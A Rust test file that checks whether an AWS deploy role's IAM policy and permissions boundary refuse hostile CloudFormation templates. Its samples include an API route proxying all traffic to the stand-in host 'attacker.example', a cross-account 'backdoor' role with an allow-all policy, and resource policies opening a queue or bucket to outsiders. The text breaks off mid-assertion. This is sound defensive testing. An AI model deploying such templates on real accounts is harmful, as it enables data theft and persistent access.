//! Hostile templates, run as the deploy role would run them: through the bootstrap's execution
//! role (issue 22). The deploy role may create a change set on its stack with any template, and
//! CloudFormation then calls AWS with the execution role; ministack ignores a change set's role
//! (it creates every resource unchecked, see `tests/tests/trust.rs`), so what CloudFormation would
//! call for each resource is evaluated here against the execution role's policy and the
//! permissions boundary, with the documented IAM rules (`support/iam_eval.rs`, ARNs matched per
//! segment).
//!
//! What CloudFormation calls: the create handler's permission list of each resource type's
//! registry schema (CloudFormation resource provider schemas, `handlers.create.permissions`, as
//! copied in cfn-lint 1.58.0 `cfnlint/data/schemas`, checked 2026-12-07), each on the ARN the
//! service authorises it on (Service Authorization Reference) with the condition keys the request
//! carries. [`create_calls`] writes them down per type, and
//! [`every_type_the_execution_role_may_create_has_a_hostile_case`] fails when the app stack gains
//! a type (a topic, a key, a table) the suite does not attack.
//!
//! Each case asserts *why* it is refused: the action, the ARN and the deciding statement (an
//! explicit deny's `Sid`, or no allow at all), so an evaluator that merely lacks a type cannot pass
//! it; and each keeps a control, the same template with the stack's own value, which the execution
//! role allows (an administrator's policy allows both, so the control shows the refusal is the
//! scope, not a malformed template). Cases no IAM condition can refuse are listed as residuals with
//! the reason, and `docs/security.md` says so.

mod support;

use std::collections::BTreeSet;

use codegen_infra::bootstrap::{self, BOUNDARY, EXECUTION_ROLE};
use codegen_infra::{StageConfig, names};
use serde_json::{Value, json};
use support::assertions::properties;
use support::iam_eval::{Decision, Names, Request, explain, resolve};
use support::lookups::role_policy_documents;
use support::stages::{dev, dev_with_stack_name, local};

const ACCOUNT: &str = "123456789012";
const OTHER_ACCOUNT: &str = "999988887777";
const REGION: &str = "us-east-1";
const STACK: &str = "codegen-dev";
/// The id of this stack's HTTP API (the bootstrap's `Api`).
const API_ID: &str = "a1b2c3d4e5";
/// Another team's HTTP API in the same account and region.
const OTHER_API_ID: &str = "zz9payroll";
/// The suffix CloudFormation appends to generated names.
const SUFFIX: &str = "A1B2C3D4E5F6";

fn names_table() -> Names {
    [
        ("AWS::Partition", "aws".to_owned()),
        ("AWS::Region", REGION.to_owned()),
        ("AWS::AccountId", ACCOUNT.to_owned()),
        ("Api", API_ID.to_owned()),
        ("AssetBucket", format!("{STACK}-bootstrap-assetbucket-abc")),
        (
            "AssetBucket.Arn",
            format!("arn:aws:s3:::{STACK}-bootstrap-assetbucket-abc"),
        ),
        (
            "ExecutionRole.Arn",
            format!(
                "arn:aws:iam::{ACCOUNT}:role/{}",
                names::execution_role(STACK)
            ),
        ),
        (
            "PermissionsBoundary",
            format!(
                "arn:aws:iam::{ACCOUNT}:policy/{}",
                names::permissions_boundary(STACK)
            ),
        ),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v))
    .collect()
}

fn boundary_arn() -> String {
    format!(
        "arn:aws:iam::{ACCOUNT}:policy/{}",
        names::permissions_boundary(STACK)
    )
}

/// The execution role's policy and the boundary, resolved for `cfg`.
struct Policies {
    execution: Value,
    boundary: Value,
}

fn policies(cfg: &StageConfig) -> Policies {
    let t = bootstrap::bootstrap(cfg).to_json_value();
    let docs = role_policy_documents(&t, EXECUTION_ROLE);
    assert_eq!(docs.len(), 1);
    Policies {
        execution: resolve(docs[0], &names_table()),
        boundary: resolve(
            &properties(&t, BOUNDARY, "AWS::IAM::ManagedPolicy")["PolicyDocument"],
            &names_table(),
        ),
    }
}

/// One call CloudFormation makes with the execution role.
#[derive(Debug, Clone)]
struct Call {
    action: &'static str,
    resource: String,
    context: Vec<(&'static str, String)>,
}

impl Call {
    fn new(action: &'static str, resource: impl Into<String>) -> Self {
        Self {
            action,
            resource: resource.into(),
            context: Vec::new(),
        }
    }

    fn with(mut self, key: &'static str, value: impl Into<String>) -> Self {
        self.context.push((key, value.into()));
        self
    }

    fn request(&self) -> Request<'_> {
        let mut r = Request::new(self.action, &self.resource);
        for (k, v) in &self.context {
            r = r.with(k, v);
        }
        r
    }
}

fn s(v: &Value) -> String {
    v.as_str()
        .unwrap_or_else(|| panic!("a hostile template names its targets literally: {v}"))
        .to_owned()
}

/// The physical name CloudFormation generates for `logical_id` (roles keep their case, buckets
/// are lower-cased).
fn generated(logical_id: &str) -> String {
    format!("{STACK}-{logical_id}-{SUFFIX}")
}

fn apis(api_id: &str, tail: &str) -> String {
    format!("arn:aws:apigateway:{REGION}::/apis/{api_id}/{tail}")
}

fn queue_arn_of_url(url: &str) -> String {
    let name = url.rsplit('/').next().unwrap_or_default();
    format!("arn:aws:sqs:{REGION}:{ACCOUNT}:{name}")
}

/// The types [`create_calls`] knows, with the registry schema's create-handler permissions each
/// call below is taken from (cfn-lint 1.58.0's copy of the CloudFormation registry schemas).
const KNOWN_TYPES: &[(&str, &str)] = &[
    ("AWS::ApiGatewayV2::Api", "apigateway:POST, apigateway:PUT"),
    ("AWS::ApiGatewayV2::Deployment", "apigateway:POST"),
    (
        "AWS::ApiGatewayV2::Integration",
        "apigateway:POST, iam:PassRole",
    ),
    ("AWS::ApiGatewayV2::Route", "apigateway:POST"),
    (
        "AWS::DynamoDB::Table",
        "dynamodb:CreateTable, dynamodb:DescribeTable, dynamodb:UpdateTimeToLive, ...",
    ),
    (
        "AWS::CloudWatch::Alarm",
        "cloudwatch:PutMetricAlarm, cloudwatch:DescribeAlarms, cloudwatch:TagResource",
    ),
    (
        "AWS::CloudWatch::Dashboard",
        "cloudwatch:PutDashboard, cloudwatch:GetDashboard",
    ),
    (
        "AWS::ApiGatewayV2::Stage",
        "apigateway:POST, apigateway:TagResource",
    ),
    (
        "AWS::IAM::Role",
        "iam:CreateRole, iam:PutRolePolicy, iam:AttachRolePolicy, iam:TagRole, ...",
    ),
    (
        "AWS::Lambda::EventSourceMapping",
        "lambda:CreateEventSourceMapping, ...",
    ),
    (
        "AWS::Lambda::Function",
        "lambda:CreateFunction, iam:PassRole, s3:GetObject, ...",
    ),
    ("AWS::Lambda::Permission", "lambda:AddPermission"),
    (
        "AWS::Logs::LogGroup",
        "logs:CreateLogGroup, logs:PutRetentionPolicy, ...",
    ),
    (
        "AWS::Logs::ResourcePolicy",
        "logs:PutResourcePolicy, logs:DescribeResourcePolicies",
    ),
    (
        "AWS::S3::Bucket",
        "s3:CreateBucket, s3:PutBucketTagging, ...",
    ),
    (
        "AWS::S3::BucketPolicy",
        "s3:GetBucketPolicy, s3:PutBucketPolicy",
    ),
    (
        "AWS::SQS::Queue",
        "sqs:CreateQueue, sqs:GetQueueUrl, sqs:GetQueueAttributes, ...",
    ),
    ("AWS::SQS::QueuePolicy", "sqs:SetQueueAttributes"),
];

/// The calls that create `resource` (the ones that decide whether it can exist; read-backs and
/// tags are covered by `infra/tests/bootstrap.rs`).
fn create_calls(logical_id: &str, resource: &Value) -> Vec<Call> {
    let p = &resource["Properties"];
    let kind = resource["Type"].as_str().expect("a type");
    match kind {
        "AWS::ApiGatewayV2::Api" => vec![Call::new(
            "apigateway:POST",
            format!("arn:aws:apigateway:{REGION}::/apis"),
        )],
        "AWS::ApiGatewayV2::Deployment" => {
            vec![Call::new(
                "apigateway:POST",
                apis(&s(&p["ApiId"]), "deployments"),
            )]
        }
        "AWS::ApiGatewayV2::Integration" => {
            vec![Call::new(
                "apigateway:POST",
                apis(&s(&p["ApiId"]), "integrations"),
            )]
        }
        "AWS::ApiGatewayV2::Route" => {
            vec![Call::new(
                "apigateway:POST",
                apis(&s(&p["ApiId"]), "routes"),
            )]
        }
        "AWS::ApiGatewayV2::Stage" => {
            vec![Call::new(
                "apigateway:POST",
                apis(&s(&p["ApiId"]), "stages"),
            )]
        }
        // PutMetricAlarm carries the alarm's actions in `cloudwatch:AlarmActions` (one here).
        "AWS::CloudWatch::Alarm" => {
            let call = Call::new(
                "cloudwatch:PutMetricAlarm",
                format!(
                    "arn:aws:cloudwatch:{REGION}:{ACCOUNT}:alarm:{}",
                    s(&p["AlarmName"])
                ),
            );
            match p["AlarmActions"].as_array().and_then(|a| a.first()) {
                Some(action) => vec![call.with("cloudwatch:AlarmActions", s(action))],
                None => vec![call],
            }
        }
        // Dashboards are global: their ARN has no region.
        "AWS::CloudWatch::Dashboard" => vec![Call::new(
            "cloudwatch:PutDashboard",
            format!(
                "arn:aws:cloudwatch::{ACCOUNT}:dashboard/{}",
                s(&p["DashboardName"])
            ),
        )],
        "AWS::IAM::Role" => {
            let name = p
                .get("RoleName")
                .map(s)
                .unwrap_or_else(|| generated(logical_id));
            let arn = format!("arn:aws:iam::{ACCOUNT}:role/{name}");
            let with_boundary = |c: Call| match p.get("PermissionsBoundary") {
                Some(b) => c.with("iam:PermissionsBoundary", s(b)),
                None => c,
            };
            let mut calls = vec![with_boundary(Call::new("iam:CreateRole", arn.clone()))];
            for _ in p["Policies"].as_array().into_iter().flatten() {
                calls.push(with_boundary(Call::new("iam:PutRolePolicy", arn.clone())));
            }
            for policy in p["ManagedPolicyArns"].as_array().into_iter().flatten() {
                calls.push(
                    with_boundary(Call::new("iam:AttachRolePolicy", arn.clone()))
                        .with("iam:PolicyARN", s(policy)),
                );
            }
            calls
        }
        "AWS::Lambda::EventSourceMapping" => {
            vec![Call::new("lambda:CreateEventSourceMapping", "*").with(
                "lambda:FunctionArn",
                format!(
                    "arn:aws:lambda:{REGION}:{ACCOUNT}:function:{}",
                    s(&p["FunctionName"])
                ),
            )]
        }
        "AWS::Lambda::Function" => vec![
            Call::new(
                "lambda:CreateFunction",
                format!(
                    "arn:aws:lambda:{REGION}:{ACCOUNT}:function:{}",
                    s(&p["FunctionName"])
                ),
            ),
            Call::new("iam:PassRole", s(&p["Role"]))
                .with("iam:PassedToService", "lambda.amazonaws.com"),
        ],
        "AWS::Lambda::Permission" => vec![
            Call::new(
                "lambda:AddPermission",
                format!(
                    "arn:aws:lambda:{REGION}:{ACCOUNT}:function:{}",
                    s(&p["FunctionName"])
                ),
            )
            .with("lambda:Principal", s(&p["Principal"])),
        ],
        "AWS::Logs::LogGroup" => vec![Call::new(
            "logs:CreateLogGroup",
            format!(
                "arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{}",
                s(&p["LogGroupName"])
            ),
        )],
        // PutResourcePolicy has no resource type in the Service Authorization Reference.
        "AWS::Logs::ResourcePolicy" => vec![Call::new("logs:PutResourcePolicy", "*")],
        "AWS::S3::Bucket" => {
            let name = p
                .get("BucketName")
                .map(s)
                .unwrap_or_else(|| generated(logical_id).to_ascii_lowercase());
            vec![Call::new("s3:CreateBucket", format!("arn:aws:s3:::{name}"))]
        }
        "AWS::S3::BucketPolicy" => vec![Call::new(
            "s3:PutBucketPolicy",
            format!("arn:aws:s3:::{}", s(&p["Bucket"])),
        )],
        "AWS::DynamoDB::Table" => vec![Call::new(
            "dynamodb:CreateTable",
            format!(
                "arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/{}",
                s(&p["TableName"])
            ),
        )],
        "AWS::SQS::Queue" => vec![Call::new(
            "sqs:CreateQueue",
            format!("arn:aws:sqs:{REGION}:{ACCOUNT}:{}", s(&p["QueueName"])),
        )],
        "AWS::SQS::QueuePolicy" => p["Queues"]
            .as_array()
            .expect("queues")
            .iter()
            .map(|q| Call::new("sqs:SetQueueAttributes", queue_arn_of_url(&s(q))))
            .collect(),
        other => panic!(
            "no create calls written down for {other}: add them from its registry schema's \
             create handler (KNOWN_TYPES) and a hostile case"
        ),
    }
}

/// Every call of every resource of `template`, evaluated against the execution role.
fn evaluate_template(policy: &Value, template: &Value) -> Vec<(Call, Decision, Option<String>)> {
    template["Resources"]
        .as_object()
        .expect("resources")
        .iter()
        .flat_map(|(id, r)| create_calls(id, r))
        .map(|call| {
            let (decision, sid) = explain(policy, &call.request());
            (call, decision, sid)
        })
        .collect()
}

/// Why a hostile template is refused: the first refused call's action, ARN, and deciding statement.
#[derive(Debug, PartialEq, Eq)]
struct Refusal {
    action: String,
    resource: String,
    decision: Decision,
    statement: Option<String>,
}

fn refusal(policy: &Value, template: &Value) -> Option<Refusal> {
    evaluate_template(policy, template)
        .into_iter()
        .find(|(_, d, _)| *d != Decision::Allow)
        .map(|(c, decision, statement)| Refusal {
            action: c.action.to_owned(),
            resource: c.resource,
            decision,
            statement,
        })
}

#[track_caller]
fn assert_control_allowed(policy: &Value, control: &Value) {
    for (call, decision, _) in evaluate_template(policy, control) {
        assert_eq!(
            decision,
            Decision::Allow,
            "control refused: {} on {} ({:?})",
            call.action,
            call.resource,
            call.context
        );
    }
}

/// The administrator's policy (`AdministratorAccess`): every hostile template's calls are allowed
/// for it, so a refusal for the execution role is the role's scope.
fn administrator() -> Value {
    json!({"Statement": [{"Sid": "Admin", "Effect": "Allow", "Action": ["*"], "Resource": ["*"]}]})
}

fn template(resources: Value) -> Value {
    json!({ "Resources": resources })
}

/// One hostile case: the template, its control, and why it is refused (or why it stays).
struct Case {
    name: &'static str,
    /// Resource types it attacks.
    types: &'static [&'static str],
    hostile: Value,
    control: Value,
    expect: Expect,
}

enum Expect {
    /// Refused: the first refused call.
    Refused(Refusal),
    /// Allowed by the execution role (no IAM condition key can tell the hostile template from the
    /// stack's own), harmless or not for the reason given; `docs/security.md` lists it.
    Residual(&'static str),
}

fn refused(action: &str, resource: &str, decision: Decision, statement: Option<&str>) -> Expect {
    Expect::Refused(Refusal {
        action: action.to_owned(),
        resource: resource.to_owned(),
        decision,
        statement: statement.map(str::to_owned),
    })
}

fn route_on(api: &str) -> Value {
    template(json!({
        "Steal": {"Type": "AWS::ApiGatewayV2::Integration", "Properties": {
            "ApiId": api, "IntegrationType": "HTTP_PROXY",
            "IntegrationUri": "https://attacker.example/{proxy}", "IntegrationMethod": "ANY",
            "PayloadFormatVersion": "1.0"}},
        "StealRoute": {"Type": "AWS::ApiGatewayV2::Route", "Properties": {
            "ApiId": api, "RouteKey": "ANY /{proxy+}", "AuthorizationType": "NONE",
            "Target": "integrations/abc"}},
        "StealStage": {"Type": "AWS::ApiGatewayV2::Stage", "Properties": {
            "ApiId": api, "StageName": "steal"}},
        "StealDeployment": {"Type": "AWS::ApiGatewayV2::Deployment", "Properties": {
            "ApiId": api, "StageName": "prod"}},
    }))
}

fn role(name: Option<&str>, trust_account: &str, boundary: Option<&str>, retain: bool) -> Value {
    let mut props = json!({
        "AssumeRolePolicyDocument": {"Version": "2012-10-17", "Statement": [{
            "Effect": "Allow", "Action": "sts:AssumeRole",
            "Principal": {"AWS": format!("arn:aws:iam::{trust_account}:root")}}]},
        "Policies": [{"PolicyName": "all", "PolicyDocument": {"Version": "2012-10-17",
            "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}}],
    });
    if let Some(n) = name {
        props["RoleName"] = json!(n);
    }
    if let Some(b) = boundary {
        props["PermissionsBoundary"] = json!(b);
    }
    let mut r = json!({"Type": "AWS::IAM::Role", "Properties": props});
    if retain {
        r["DeletionPolicy"] = json!("Retain");
    }
    template(json!({ "FunctionRole": r }))
}

fn code_bucket_arn() -> String {
    format!(
        "arn:aws:s3:::{}",
        generated("CodeBucket").to_ascii_lowercase()
    )
}

fn cases() -> Vec<Case> {
    let boundary = boundary_arn();
    let queue_url = |name: &str| format!("https://sqs.{REGION}.amazonaws.com/{ACCOUNT}/{name}");
    let jobs_queue = dev().jobs_queue_name();
    let sync_function = dev().function_name();
    let function_role = format!("arn:aws:iam::{ACCOUNT}:role/{}", generated("FunctionRole"));
    let lambda = |name: &str, role: &str| {
        template(
            json!({"Function": {"Type": "AWS::Lambda::Function", "Properties": {
            "FunctionName": name, "Role": role, "Runtime": "provided.al2023",
            "Handler": "bootstrap", "Code": {"S3Bucket": "b", "S3Key": "k"}}}}),
        )
    };
    let alarm = |name: &str, action: &str| {
        template(
            json!({"Alarm": {"Type": "AWS::CloudWatch::Alarm", "Properties": {
            "AlarmName": name, "AlarmActions": [action], "MetricName": "Errors",
            "Namespace": "AWS/Lambda", "Statistic": "Sum", "Period": 60,
            "EvaluationPeriods": 1, "Threshold": 1,
            "ComparisonOperator": "GreaterThanOrEqualToThreshold"}}}),
        )
    };
    let stage_topic = format!("arn:aws:sns:{REGION}:{ACCOUNT}:{STACK}-alarms");
    let dashboard = |name: &str| {
        template(
            json!({"Board": {"Type": "AWS::CloudWatch::Dashboard", "Properties": {
            "DashboardName": name, "DashboardBody": "{\"widgets\":[]}"}}}),
        )
    };
    let table = |name: &str| {
        template(json!({"T": {"Type": "AWS::DynamoDB::Table", "Properties": {
            "TableName": name, "BillingMode": "PAY_PER_REQUEST",
            "AttributeDefinitions": [{"AttributeName": "pk", "AttributeType": "S"}],
            "KeySchema": [{"AttributeName": "pk", "KeyType": "HASH"}]}}}))
    };
    vec![
        Case {
            name: "a DynamoDB table that is not the stack's budget table (another team's name)",
            types: &["AWS::DynamoDB::Table"],
            hostile: table("payroll-ledger"),
            control: table(&dev().quota_table_name()),
            expect: refused(
                "dynamodb:CreateTable",
                &format!("arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/payroll-ledger"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a table named like another stage's budget table (a prefix is not the stack)",
            types: &["AWS::DynamoDB::Table"],
            hostile: table(&format!("{STACK}-prod-quotas")),
            control: table(&dev().quota_table_name()),
            expect: refused(
                "dynamodb:CreateTable",
                &format!("arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/{STACK}-prod-quotas"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "an alarm that overwrites another team's alarm (PutMetricAlarm replaces by name)",
            types: &["AWS::CloudWatch::Alarm"],
            hostile: alarm("payroll-errors", &stage_topic),
            control: alarm(&format!("{STACK}-errors"), &stage_topic),
            expect: refused(
                "cloudwatch:PutMetricAlarm",
                &format!("arn:aws:cloudwatch:{REGION}:{ACCOUNT}:alarm:payroll-errors"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "an alarm of the stack whose action terminates EC2 instances",
            types: &["AWS::CloudWatch::Alarm"],
            hostile: alarm(
                &format!("{STACK}-errors"),
                &format!("arn:aws:automate:{REGION}:ec2:terminate"),
            ),
            control: alarm(&format!("{STACK}-errors"), &stage_topic),
            expect: refused(
                "cloudwatch:PutMetricAlarm",
                &format!("arn:aws:cloudwatch:{REGION}:{ACCOUNT}:alarm:{STACK}-errors"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a dashboard that overwrites another team's dashboard",
            types: &["AWS::CloudWatch::Dashboard"],
            hostile: dashboard("payroll"),
            control: dashboard(STACK),
            expect: refused(
                "cloudwatch:PutDashboard",
                &format!("arn:aws:cloudwatch::{ACCOUNT}:dashboard/payroll"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a route, integration, stage and deployment on another team's API id",
            types: &[
                "AWS::ApiGatewayV2::Integration",
                "AWS::ApiGatewayV2::Route",
                "AWS::ApiGatewayV2::Stage",
                "AWS::ApiGatewayV2::Deployment",
            ],
            hostile: route_on(OTHER_API_ID),
            control: route_on(API_ID),
            expect: refused(
                "apigateway:POST",
                &apis(OTHER_API_ID, "integrations"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a new HTTP API (the stack's API is the bootstrap's)",
            types: &["AWS::ApiGatewayV2::Api"],
            hostile: template(
                json!({"Rogue": {"Type": "AWS::ApiGatewayV2::Api", "Properties": {
                "Name": "rogue", "ProtocolType": "HTTP"}}}),
            ),
            control: route_on(API_ID),
            expect: refused(
                "apigateway:POST",
                &format!("arn:aws:apigateway:{REGION}::/apis"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a role whose trust names another account, without the boundary",
            types: &["AWS::IAM::Role"],
            hostile: role(None, OTHER_ACCOUNT, None, false),
            control: role(None, ACCOUNT, Some(&boundary), false),
            expect: refused(
                "iam:CreateRole",
                &format!("arn:aws:iam::{ACCOUNT}:role/{}", generated("FunctionRole")),
                Decision::ExplicitDeny,
                Some("NoRoleWithoutBoundary"),
            ),
        },
        Case {
            name: "a Retain role named outside the stack's pattern",
            types: &["AWS::IAM::Role"],
            hostile: role(Some("backdoor"), OTHER_ACCOUNT, Some(&boundary), true),
            control: role(None, ACCOUNT, Some(&boundary), true),
            expect: refused(
                "iam:CreateRole",
                &format!("arn:aws:iam::{ACCOUNT}:role/backdoor"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a code bucket named after another team's bucket",
            types: &["AWS::S3::Bucket"],
            hostile: template(
                json!({"CodeBucket": {"Type": "AWS::S3::Bucket", "Properties": {
                "BucketName": "payroll-exports"}}}),
            ),
            control: template(json!({"CodeBucket": {"Type": "AWS::S3::Bucket", "Properties": {}}})),
            expect: refused(
                "s3:CreateBucket",
                "arn:aws:s3:::payroll-exports",
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a `CodeBucket` that is not a bucket (destroy would empty its physical id)",
            types: &["AWS::SQS::Queue"],
            hostile: template(
                json!({"CodeBucket": {"Type": "AWS::SQS::Queue", "Properties": {
                "QueueName": "payroll-exports"}}}),
            ),
            control: template(
                json!({"JobsQueue": {"Type": "AWS::SQS::Queue", "Properties": {
                "QueueName": jobs_queue}}}),
            ),
            expect: refused(
                "sqs:CreateQueue",
                &format!("arn:aws:sqs:{REGION}:{ACCOUNT}:payroll-exports"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a queue of a stage named `dev-jobs` (a pattern without a delimiter covered it)",
            types: &["AWS::SQS::Queue"],
            hostile: template(json!({"Q": {"Type": "AWS::SQS::Queue", "Properties": {
                "QueueName": format!("{jobs_queue}-jobs")}}})),
            control: template(json!({"Q": {"Type": "AWS::SQS::Queue", "Properties": {
                "QueueName": format!("{jobs_queue}-dlq")}}})),
            expect: refused(
                "sqs:CreateQueue",
                &format!("arn:aws:sqs:{REGION}:{ACCOUNT}:{jobs_queue}-jobs"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a function outside the stack's names, or passed another role",
            types: &["AWS::Lambda::Function"],
            hostile: lambda(
                &sync_function,
                &format!("arn:aws:iam::{ACCOUNT}:role/{}", names::deploy_role(STACK)),
            ),
            control: lambda(&sync_function, &function_role),
            expect: refused(
                "iam:PassRole",
                &format!("arn:aws:iam::{ACCOUNT}:role/{}", names::deploy_role(STACK)),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a public invoke permission on the function",
            types: &["AWS::Lambda::Permission"],
            hostile: template(
                json!({"P": {"Type": "AWS::Lambda::Permission", "Properties": {
                "FunctionName": sync_function, "Action": "lambda:InvokeFunction",
                "Principal": "*"}}}),
            ),
            control: template(
                json!({"P": {"Type": "AWS::Lambda::Permission", "Properties": {
                "FunctionName": sync_function, "Action": "lambda:InvokeFunction",
                "Principal": "apigateway.amazonaws.com"}}}),
            ),
            expect: refused(
                "lambda:AddPermission",
                &format!("arn:aws:lambda:{REGION}:{ACCOUNT}:function:{sync_function}"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "an event source mapping feeding the jobs queue to another function",
            types: &["AWS::Lambda::EventSourceMapping"],
            hostile: template(json!({"M": {"Type": "AWS::Lambda::EventSourceMapping",
                "Properties": {"FunctionName": "payroll-worker",
                "EventSourceArn": "arn:aws:sqs:us-east-1:123456789012:q"}}})),
            control: template(json!({"M": {"Type": "AWS::Lambda::EventSourceMapping",
                "Properties": {"FunctionName": dev().jobs_function_name("worker"),
                "EventSourceArn": "arn:aws:sqs:us-east-1:123456789012:q"}}})),
            expect: refused(
                "lambda:CreateEventSourceMapping",
                "*",
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a log group of another application",
            types: &["AWS::Logs::LogGroup"],
            hostile: template(json!({"L": {"Type": "AWS::Logs::LogGroup", "Properties": {
                "LogGroupName": "/aws/lambda/payroll"}}})),
            control: template(json!({"L": {"Type": "AWS::Logs::LogGroup", "Properties": {
                "LogGroupName": names::function_log_group(&sync_function)}}})),
            expect: refused(
                "logs:CreateLogGroup",
                &format!("arn:aws:logs:{REGION}:{ACCOUNT}:log-group:/aws/lambda/payroll"),
                Decision::ImplicitDeny,
                None,
            ),
        },
        Case {
            name: "a bucket policy sharing the code bucket with another account",
            types: &["AWS::S3::BucketPolicy"],
            hostile: template(
                json!({"Share": {"Type": "AWS::S3::BucketPolicy", "Properties": {
                "Bucket": generated("CodeBucket").to_ascii_lowercase(),
                "PolicyDocument": {"Statement": [{"Effect": "Allow", "Action": "s3:GetObject",
                    "Principal": {"AWS": format!("arn:aws:iam::{OTHER_ACCOUNT}:root")},
                    "Resource": format!("{}/*", code_bucket_arn())}]}}}}),
            ),
            control: template(
                json!({"Share": {"Type": "AWS::S3::BucketPolicy", "Properties": {
                "Bucket": generated("CodeBucket").to_ascii_lowercase()}}}),
            ),
            expect: Expect::Residual(
                "s3:PutBucketPolicy on the code bucket is what the stack's own TLS-only policy \
                 needs, and IAM has no condition key on a bucket policy's content; block public \
                 access stops `Principal: *` but not a named account",
            ),
        },
        Case {
            name: "a queue policy letting `*` send to the jobs queue",
            types: &["AWS::SQS::QueuePolicy"],
            hostile: template(
                json!({"Open": {"Type": "AWS::SQS::QueuePolicy", "Properties": {
                "Queues": [queue_url(&jobs_queue)],
                "PolicyDocument": {"Statement": [{"Effect": "Allow", "Action": "sqs:SendMessage",
                    "Principal": "*", "Resource": "*"}]}}}}),
            ),
            control: template(
                json!({"Open": {"Type": "AWS::SQS::QueuePolicy", "Properties": {
                "Queues": [queue_url(&jobs_queue)]}}}),
            ),
            expect: Expect::Residual(
                "a queue policy is set with sqs:SetQueueAttributes, which the queues' own updates \
                 (visibility timeout, redrive) need, and IAM has no condition key on the policy \
                 it sets",
            ),
        },
        Case {
            name: "a CloudWatch Logs resource policy",
            types: &["AWS::Logs::ResourcePolicy"],
            hostile: template(
                json!({"Logs": {"Type": "AWS::Logs::ResourcePolicy", "Properties": {
                "PolicyName": "open", "PolicyDocument": "{}"}}}),
            ),
            control: template(
                json!({"Logs": {"Type": "AWS::Logs::ResourcePolicy", "Properties": {
                "PolicyName": "delivery", "PolicyDocument": "{}"}}}),
            ),
            expect: Expect::Residual(
                "API Gateway's HTTP API access logging requires logs:PutResourcePolicy on `*` of \
                 the caller (API Gateway developer guide, \"Configuring logging for an HTTP \
                 API\"), and the action has no resource type or content condition",
            ),
        },
    ]
}

#[test]
fn every_hostile_template_is_refused_for_the_reason_given_and_its_control_is_allowed() {
    let p = policies(&dev());
    let mut residuals = Vec::new();
    for case in cases() {
        // The administrator's identical template is allowed: the template is well-formed.
        assert_eq!(
            refusal(&administrator(), &case.hostile),
            None,
            "{}",
            case.name
        );
        assert_control_allowed(&p.execution, &case.control);
        match case.expect {
            Expect::Refused(want) => {
                assert_eq!(
                    refusal(&p.execution, &case.hostile).as_ref(),
                    Some(&want),
                    "{}",
                    case.name
                );
            }
            Expect::Residual(reason) => {
                assert_eq!(
                    refusal(&p.execution, &case.hostile),
                    None,
                    "{} is refused now: make it a Refused case and update docs/security.md",
                    case.name
                );
                residuals.push((case.name, reason));
            }
        }
    }
    assert_eq!(residuals.len(), 3, "{residuals:?}");
}

/// A role the execution role may create carries the boundary, and the boundary makes its
/// credentials useless outside the stack's functions: a role whose trust names another account
/// (trust policies have no condition key, so CreateRole and UpdateAssumeRolePolicy cannot refuse
/// it) gets credentials that are denied everything but the queue polling Lambda does without
/// `lambda:SourceFunctionArn`.
#[test]
fn a_boundary_bound_role_trusted_by_another_account_yields_useless_credentials() {
    let p = policies(&dev());
    let boundary = boundary_arn();
    // The template itself is allowed (the stack's own role name, with the boundary), Retain or not.
    for retain in [false, true] {
        assert_eq!(
            refusal(
                &p.execution,
                &role(None, OTHER_ACCOUNT, Some(&boundary), retain)
            ),
            None
        );
    }
    let object = format!("{}/code-output/x.py", code_bucket_arn());
    let function = format!(
        "arn:aws:lambda:{REGION}:{ACCOUNT}:function:{}",
        dev().function_name()
    );
    for (action, resource) in [
        ("s3:PutObject", object.as_str()),
        ("s3:GetObject", object.as_str()),
    ] {
        let outside = Request::new(action, resource);
        assert_eq!(
            explain(&p.boundary, &outside),
            (
                Decision::ExplicitDeny,
                Some("OnlyFromTheStacksFunctions".to_owned())
            ),
            "{action} without lambda:SourceFunctionArn"
        );
        let other_function = outside.clone().with(
            "lambda:SourceFunctionArn",
            "arn:aws:lambda:us-east-1:123456789012:function:payroll",
        );
        assert_eq!(
            explain(&p.boundary, &other_function).0,
            Decision::ExplicitDeny,
            "{action} from another function"
        );
        let qualified = format!("{function}:live");
        assert_eq!(
            explain(
                &p.boundary,
                &outside.clone().with("lambda:SourceFunctionArn", &qualified)
            )
            .0,
            Decision::Allow,
            "{action} from an alias of the stack's function"
        );
        let inside = outside.with("lambda:SourceFunctionArn", &function);
        assert_eq!(
            explain(&p.boundary, &inside).0,
            Decision::Allow,
            "{action} from the stack's function (control)"
        );
    }
    // The documented exemption: Lambda polls the queues without the key.
    let queue = format!("arn:aws:sqs:{REGION}:{ACCOUNT}:{}", dev().jobs_queue_name());
    assert_eq!(
        explain(&p.boundary, &Request::new("sqs:ReceiveMessage", &queue)),
        (Decision::Allow, Some("BoundaryJobsQueues".to_owned()))
    );
    assert_eq!(
        explain(&p.boundary, &Request::new("sqs:SendMessage", &queue)).0,
        Decision::ExplicitDeny
    );
    // A role granting itself another table (a hostile role policy is allowed to be written, the
    // boundary is what stops it): the boundary allows DynamoDB on the stack's budget table only,
    // and only from the stack's functions.
    let own = format!(
        "arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/{}",
        dev().quota_table_name()
    );
    let other = format!("arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/payroll-ledger");
    let from_function = |action, table: &str| {
        explain(
            &p.boundary,
            &Request::new(action, table).with("lambda:SourceFunctionArn", &function),
        )
    };
    assert_eq!(
        from_function("dynamodb:UpdateItem", &own),
